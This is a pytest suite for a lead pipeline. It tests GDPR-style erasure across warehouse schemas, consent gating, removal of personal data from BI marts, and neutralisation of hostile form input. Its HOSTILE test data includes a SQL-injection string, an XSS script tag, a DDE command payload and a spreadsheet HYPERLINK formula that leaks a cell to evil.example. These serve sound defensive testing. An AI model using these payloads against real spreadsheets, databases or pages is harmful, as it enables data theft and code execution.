"""Privacy and hostile input on real runs: `leadflow forget` erases a person from every table
of every schema and keeps them out of later loads (DuckDB and PostgreSQL); text from forms
is stored unchanged and neutralised in every CSV and HTML leadflow writes."""

from __future__ import annotations

import csv
import hashlib
import io
import shutil
from pathlib import Path

import duckdb
import pytest
import sqlalchemy as sa

from flows.cli import main
from flows.entities import ENTITIES
from flows.export import csv_cell, write_csv
from flows.forget import forget
from flows.gate import run_gate
from flows.privacy import identifier_hash, normalise_email, remaining_occurrences
from flows.qualify import qualify
from flows.report import html_table, render_report
from flows.settings import DBT_PROJECT_DIR, Warehouse
from flows.warehouse import make_engine
from tests.conftest import SAMPLE_SUBSET, copy_sample, duckdb_url

HOSTILE = (
    "Robert'); DROP TABLE raw.forms;--",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "<script>alert('x')</script>",
    '"Quoted" O\'Brien; Smith',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\tTabbed Name",
    "\rCarriage Return",
)

FORM_HEADER = [
    "Submission ID", "Submitted At", "Form", "Page URL", "First Name", "Last Name", "Email",
    "Company", "Job Title", "Phone", "Country", "Company Website", "Consent", "utm_source",
    "utm_medium", "utm_campaign", "Visitor ID",
]  # fmt: skip


# --------------------------------------------------------------------------- unit


def test_the_address_is_normalised_and_hashed_as_the_models_and_duckdb_do():
    con = duckdb.connect()
    try:
        for raw in ("  Ana.Ruiz@Example.COM ", "ana.ruiz@example.com", "ANA.RUIZ@EXAMPLE.COM"):
            [(sql_norm, sql_hash)] = con.execute(
                "select lower(trim(?)), sha256(lower(trim(?)))", [raw, raw]
            ).fetchall()
            assert normalise_email(raw) == sql_norm == "ana.ruiz@example.com"
            assert identifier_hash(normalise_email(raw)) == sql_hash
    finally:
        con.close()
    assert identifier_hash("a@b.c") == hashlib.sha256(b"a@b.c").hexdigest()


def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote():
    for value in HOSTILE:
        cell = csv_cell(value)
        if value[0] in "=+-@\t\r":
            assert cell == "'" + value
        else:
            assert cell == value
    assert csv_cell(None) == "" and csv_cell(-12.5) == "-12.5" and csv_cell(3) == "3"
    out = io.StringIO()
    assert write_csv(out, ["name", "n"], [(v, i) for i, v in enumerate(HOSTILE)]) == len(HOSTILE)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["name", "n"]
    assert [r[0] for r in rows[1:]] == [csv_cell(v) for v in HOSTILE]  # quoting round-trips
    for cell in (r[0] for r in rows[1:]):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_html_tables_escape_markup_and_quotes():
    page = html_table([{"company_name": v} for v in HOSTILE])
    assert "<script>" not in page and "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert "Robert&#x27;); DROP TABLE raw.forms;--" in page
    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1" in page


def test_staged_rows_of_a_suppressed_person_are_dropped_and_only_theirs(tmp_path):
    from flows.ingest import stage_file
    from flows.mapping import load_profiles
    from flows.privacy import drop_suppressed
    from flows.settings import MAPPINGS_DIR

    landing = tmp_path / "landing"
    (landing / "forms").mkdir(parents=True)
    path = _write_hostile_forms(landing, "gone@example.com")
    with path.open("a", encoding="utf-8") as handle:  # a line with too few columns
        handle.write('"broken","Gone@Example.com "\n')
    profiles = {p.name: p for p in load_profiles(MAPPINGS_DIR)}
    suppressed = {
        "email": {identifier_hash("gone@example.com")},
        "visitor_id": {identifier_hash("v-hostile-3")},
    }
    con = duckdb.connect()
    try:
        for name, parsed_dropped in (("web_forms", 1), ("form_events", 2)):
            stage_file(con, path, profiles[name], "forms/x.csv")
            fields = ENTITIES[profiles[name].entity].fields
            assert drop_suppressed(con, fields, {}) == 0
            count = "select (select count(*) from _parsed), (select count(*) from _broken)"
            parsed, broken = con.execute(count).fetchone()
            assert broken == 1
            # the quarantined row, the broken line, and for events the visitor's event
            assert drop_suppressed(con, fields, suppressed) == parsed_dropped + 1, name
            assert con.execute(count).fetchone() == (parsed - parsed_dropped, 0)
            left = con.execute(
                "select string_agg(_original, ' ') from _originals "
                "where _source_row in (select _source_row from _parsed)"
            ).fetchone()[0]
            assert "gone@example.com" not in left.lower() and "Robert');" in left
    finally:
        con.close()


def test_sql_csv_export_neutralises_formulas_and_keeps_the_warehouse_value(tmp_path, capsys):
    path = tmp_path / "w.duckdb"
    con = duckdb.connect(str(path))
    con.execute("create schema marts; create table marts.mql_leads (full_name varchar, n int)")
    con.executemany(
        "insert into marts.mql_leads values (?, ?)", [(v, -i) for i, v in enumerate(HOSTILE)]
    )
    con.close()
    url = f"duckdb:///{path}"
    assert main(["sql", "--csv", "select * from marts.mql_leads", "--warehouse-url", url]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert rows[0] == ["full_name", "n"]
    assert rows[1:] == [[csv_cell(v), str(-i)] for i, v in enumerate(HOSTILE)]
    con = duckdb.connect(str(path), read_only=True)
    try:  # the warehouse keeps the text as it came
        assert [
            r[0] for r in con.execute("select full_name from marts.mql_leads").fetchall()
        ] == list(HOSTILE)
    finally:
        con.close()


# --------------------------------------------------------------------------- integration


def _form_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _choose_person(landing: Path) -> str:
    """An address with a form, a visitor id, website activity and a sales decision."""
    decided = set()
    for month in (1, 2, 3):
        for row in _form_rows(landing / f"crm/lead_decisions_2026-0{month}.csv"):
            decided.add(normalise_email(row["Lead Email"]))
    web = "".join(
        (landing / f"web/site_activity_2026-0{m}.jsonl").read_text(encoding="utf-8")
        for m in (1, 2, 3)
    )
    for row in _form_rows(landing / "forms/web_form_submissions_2026-01.csv"):
        email = normalise_email(row["Email"])
        if email in decided and row["Visitor ID"] and f'"{row["Visitor ID"]}"' in web:
            return email
    raise AssertionError("the sample has no person with a form, visits and a decision")


def _write_hostile_forms(landing: Path, person: str) -> Path:
    """A form export with one hostile value per field for new people, and one row of
    ``person`` with an unparseable time (quarantined with the address in its original row)."""
    path = landing / "forms/web_form_submissions_2026-11.csv"
    rows = []
    for i, value in enumerate(HOSTILE):
        rows.append(
            [
                f"hostile-{i}",
                f"2026-03-{10 + i:02d} 10:00:00",
                "Demo request",
                "https://www.leadflow.example/en/demo",
                value,
                value,
                f"p{i}@hostile-{i}.example",
                value,
                value,
                value,
                "Spain",
                f"hostile-{i}.example",
                "Yes",
                "",
                "",
                "",
                f"v-hostile-{i}",
            ]  # fmt: skip
        )
    rows.append(
        [
            "quarantined-1",
            "soon",
            "Demo request",
            "https://www.leadflow.example/en/demo",
            "Forgotten",
            "Person",
            person.upper(),
            "Acme",
            "CTO",
            "+34 600 000 000",
            "Spain",
            "",
            "Yes",
            "",
            "",
            "",
            "",
        ]  # fmt: skip
    )
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\n", quoting=csv.QUOTE_ALL)
        writer.writerow(FORM_HEADER)
        writer.writerows(rows)
    return path


def _engine(url: str) -> sa.Engine:
    return make_engine(Warehouse.from_env(url))


def _scalar(url: str, sql: str, **params) -> object:
    engine = _engine(url)
    try:
        with engine.connect() as conn:
            return conn.execute(sa.text(sql), params).scalar()
    finally:
        engine.dispose()


def _rows(url: str, sql: str, **params) -> list[tuple]:
    engine = _engine(url)
    try:
        with engine.connect() as conn:
            return [tuple(r) for r in conn.execute(sa.text(sql), params)]
    finally:
        engine.dispose()


def _leftovers(url: str, email: str) -> dict[str, int]:
    engine = _engine(url)
    try:
        return remaining_occurrences(engine, email)
    finally:
        engine.dispose()


@pytest.fixture(params=["duckdb", pytest.param("postgres", marks=pytest.mark.postgres)])
def warehouse_url(request, tmp_path) -> str:
    if request.param == "duckdb":
        return duckdb_url(tmp_path / "wh.duckdb")
    return request.getfixturevalue("postgres_url")


@pytest.mark.integration
@pytest.mark.slow
def test_forget_erases_a_person_everywhere_and_reloading_does_not_bring_them_back(
    tmp_path, warehouse_url, prefect_harness, capsys
):
    landing = copy_sample(SAMPLE_SUBSET, tmp_path / "landing")
    person = _choose_person(landing)
    hostile_file = _write_hostile_forms(landing, person)
    first = qualify(sources=str(landing), warehouse_url=warehouse_url)
    assert all(g["success"] for g in first.gates)

    # ---- hostile input: stored byte-exact, nothing dropped, every table still there
    loaded = {
        (f["mapping"], f["rows_loaded"], f["rows_quarantined"])
        for f in first.files
        if f["source_file"] == hostile_file.relative_to(landing).as_posix()
    }
    assert loaded == {("web_forms", len(HOSTILE), 1), ("form_events", len(HOSTILE), 1)}
    stored = _rows(
        warehouse_url,
        "select first_name, last_name, company_name, job_title, phone from raw.contacts "
        "where _source_file = :f order by _source_row",
        f="forms/web_form_submissions_2026-11.csv",
    )
    assert stored == [(v, v, v, v, v) for v in HOSTILE]
    published = dict(
        _rows(
            warehouse_url,
            "select email, company_name from marts.leads where email like '%@hostile-%.example'",
        )
    )
    assert published == {f"p{i}@hostile-{i}.example": v for i, v in enumerate(HOSTILE)}
    for table in ("contacts", "events", "quarantine", "load_ledger"):
        assert _scalar(warehouse_url, f"select count(*) from raw.{table}") > 0
    # the person's rejected row is in the quarantine with the address, before forget
    assert (
        _scalar(
            warehouse_url,
            "select count(*) from raw.quarantine where strpos(lower(original_row), :a) > 0",
            a=person,
        )
        == 2
    )

    # ---- every CSV and HTML leadflow writes neutralises them
    report = render_report(warehouse_url, tmp_path / "funnel.html").read_text(encoding="utf-8")
    assert "<script>alert" not in report
    capsys.readouterr()  # what the runs printed so far
    assert main(["sql", "--warehouse-url", warehouse_url, "--csv", "select email, "
                 "company_name from marts.leads where email like '%@hostile-%.example' "
                 "order by email"]) == 0  # fmt: skip
    exported = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert exported[0] == ["email", "company_name"]
    assert [r[1] for r in exported[1:]] == [csv_cell(v) for v in HOSTILE]

    # ---- forget: the address is in no text column of any table, in any schema
    assert _leftovers(warehouse_url, person)  # present before
    leads_before = _scalar(warehouse_url, "select count(*) from marts.leads")
    lead_id = _scalar(warehouse_url, "select lead_id from marts.leads where email = :e", e=person)
    entries_before = _scalar(warehouse_url, "select count(*) from marts.funnel_tier_entries")
    person_entries = _scalar(
        warehouse_url,
        "select count(*) from marts.funnel_tier_entries where lead_id = :l",
        l=lead_id,
    )
    assert person_entries >= 2
    result = forget(email=f"  {person.upper()} ", warehouse_url=warehouse_url)
    assert result.erasure.deleted["raw.contacts"] >= 1
    assert result.erasure.deleted["raw.quarantine"] == 2
    assert result.erasure.deleted["raw.sales_decisions"] >= 1
    assert result.erasure.visitor_ids >= 1
    assert _leftovers(warehouse_url, person) == {}
    assert _scalar(warehouse_url, "select count(*) from marts.leads") == leads_before - 1
    # metrics recomputed without the person
    assert (
        _scalar(warehouse_url, "select count(*) from marts.funnel_tier_entries")
        == entries_before - person_entries
    )
    assert _rows(
        warehouse_url,
        "select identifier_kind, reason from ops.suppressions where identifier_hash = :h",
        h=identifier_hash(person),
    ) == [("email", "erasure request")]
    visitor_rows = _rows(
        warehouse_url,
        "select count(*) from raw.events e where e.visitor_id in "
        "(select visitor_id from raw.events where lower(trim(email)) = :e)",
        e=person,
    )
    assert visitor_rows == [(0,)]
    raw_after_forget = {
        t: _scalar(warehouse_url, f"select count(*) from raw.{t}")
        for t in ("contacts", "events", "sales_decisions", "quarantine")
    }

    # ---- re-loading every old file (backfill) does not bring the person back
    again = qualify(
        sources=str(landing),
        warehouse_url=warehouse_url,
        backfill_since="2026-01-01",
        backfill_until="2027-01-01",
    )
    assert set(again.reprocessed) >= {"forms/web_form_submissions_2026-01.csv"}
    assert again.totals()["rows_suppressed"] >= result.erasure.deleted["raw.contacts"] + 2
    assert _leftovers(warehouse_url, person) == {}
    assert {
        t: _scalar(warehouse_url, f"select count(*) from raw.{t}") for t in raw_after_forget
    } == raw_after_forget
    assert _scalar(warehouse_url, "select count(*) from marts.leads") == leads_before - 1
    suppressed = _scalar(
        warehouse_url, "select sum(rows_suppressed) from raw.load_ledger where status = 'loaded'"
    )
    assert suppressed == again.totals()["rows_suppressed"]


# --------------------------------------------------------------------------- consent, BI

OUTREACH_RULE = (
    "no lead without permission to be contacted (consent, no opt-out, no unsubscribe) "
    "is in an outreach tier (mql, sal, sql, nurture)"
)
PERSONAL_COLUMNS = ("email", "phone", "first_name", "last_name", "full_name")


@pytest.mark.integration
def test_no_lead_without_permission_is_in_an_outreach_tier_and_the_gate_blocks_one(
    sample_run, tmp_path
):
    _, source = sample_run
    path = tmp_path / "wh.duckdb"
    shutil.copy(source, path)
    con = duckdb.connect(str(path))
    try:
        outreach = con.execute(
            "select tier, count(*) filter (where not coalesce(can_contact, false)), count(*) "
            "from marts.leads where tier in ('mql', 'sal', 'sql', 'nurture') group by 1"
        ).fetchall()
        # rejected for a recyclable reason but never allowed to be contacted: disqualified
        [(kept,)] = con.execute(
            "select count(*) from marts.leads where tier = 'disqualified' and not can_contact "
            "and disqualification_reason in ('no_budget', 'bad_timing', 'no_need')"
        ).fetchall()
    finally:
        con.close()
    assert {t for t, _, n in outreach if n} == {"mql", "sal", "sql", "nurture"}
    assert all(blocked == 0 for _, blocked, _ in outreach), outreach
    assert kept >= 1
    warehouse = Warehouse.from_env(duckdb_url(path))
    assert run_gate(warehouse, "sal").success
    con = duckdb.connect(str(path))
    try:
        con.execute(
            "update audit.leads set can_contact = false, has_consent = null "
            "where lead_id = (select min(lead_id) from audit.leads where tier = 'mql')"
        )
    finally:
        con.close()
    result = run_gate(warehouse, "sal")
    assert not result.success
    assert {f.description: f.unexpected_count for f in result.failed} == {OUTREACH_RULE: 1}


def _bi_models() -> set[str]:
    """The marts that dashboards and sales operations read, from dbt's exposures."""
    import yaml

    spec = yaml.safe_load(
        (DBT_PROJECT_DIR / "models" / "marts" / "_marts__models.yml").read_text(encoding="utf-8")
    )
    models = set()
    for exposure in spec["exposures"]:
        if exposure["name"] in ("bi_sales_pipeline", "sales_operations_queue"):
            models.update(ref.split("'")[1] for ref in exposure["depends_on"])
    return models


@pytest.mark.integration
def test_bi_facing_marts_carry_no_email_phone_or_name(sample_run):
    _, path = sample_run
    models = _bi_models()
    assert {"sql_opportunities", "funnel_conversion", "sla_breaches"} <= models
    assert "leads" not in models and "mql_leads" not in models
    con = duckdb.connect(str(path), read_only=True)
    try:
        columns = con.execute(
            "select table_name, column_name, data_type from information_schema.columns "
            "where table_schema = 'marts'"
        ).fetchall()
        by_table: dict[str, list[tuple[str, str]]] = {}
        for table, column, data_type in columns:
            by_table.setdefault(table, []).append((column, data_type))
        assert models <= set(by_table)
        for model in sorted(models):
            names = [c for c, _ in by_table[model]]
            assert not [c for c in names if c in PERSONAL_COLUMNS or "email" in c], model
            # and no text value is a lead's address
            for column, data_type in by_table[model]:
                if data_type != "VARCHAR":
                    continue
                [(n,)] = con.execute(
                    f'select count(*) from marts."{model}" m join marts.leads l '
                    f'on lower(m."{column}") = l.email'
                ).fetchall()
                assert n == 0, f"marts.{model}.{column} holds e-mail addresses"
        # the lists marketing works do carry them: the test would notice a leak
        assert ("email", "VARCHAR") in by_table["leads"]
    finally:
        con.close()


def test_forget_refuses_what_is_not_an_address(tmp_path, capsys):
    url = duckdb_url(tmp_path / "w.duckdb")
    assert main(["forget", "not-an-address", "--warehouse-url", url]) == 2
    assert "'not-an-address' is not an e-mail address" in capsys.readouterr().err
